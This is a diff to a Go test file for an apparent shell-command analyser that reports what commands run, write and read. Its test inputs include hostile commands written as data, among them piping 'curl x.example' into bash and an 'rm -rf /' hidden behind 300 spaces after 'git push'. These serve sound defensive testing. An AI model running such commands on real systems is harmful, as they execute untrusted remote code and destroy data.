@@ -12,8 +12,10 @@ import (
 func TestShown(t *testing.T) {
 	for _, tt := range []struct{ command, want string }{
 		{"git push origin main", "runs:    git push origin main"},
-		{"CI=1 timeout 5 nice git -C '/a b' push -f 2>/dev/null > out.txt && cat < in",
-			"runs:    git -C '/a b' push -f (started by timeout > nice)|runs:    git push -f (started by timeout > nice > git)|runs:    cat|writes:  out.txt|reads:   in|sets:    CI=1"},
+		{
+			"CI=1 timeout 5 nice git -C '/a b' push -f 2>/dev/null > out.txt && cat < in",
+			"runs:    git -C '/a b' push -f (started by timeout > nice)|runs:    git push -f (started by timeout > nice > git)|runs:    cat|writes:  out.txt|reads:   in|sets:    CI=1",
+		},
 		{"echo $(curl x.example | bash)", "runs:    echo <unknown>|runs:    curl x.example|runs:    bash|unsure:  bash: it runs the commands that it reads from its input"},
 		{"git push" + strings.Repeat(" ", 300) + "; rm -rf /", "runs:    git push|runs:    rm -rf /"},
 		{"git push 'a" + strings.Repeat(" ", 300) + "b'", "runs:    git push 'a<300 spaces>b'"},
